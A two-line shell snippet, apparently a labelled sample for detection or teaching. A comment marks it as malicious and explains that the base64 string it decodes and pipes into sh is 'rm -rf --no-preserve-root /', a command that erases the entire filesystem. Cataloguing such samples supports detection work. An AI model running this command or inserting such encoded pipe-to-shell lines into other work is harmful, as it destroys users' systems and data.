# Malicious, obfuscated: a base64 string piped through base64 -d into sh; decodes to rm -rf --no-preserve-root /.
echo cm0gLXJmIC0tbm8tcHJlc2VydmUtcm9vdCAv | base64 -d | sh
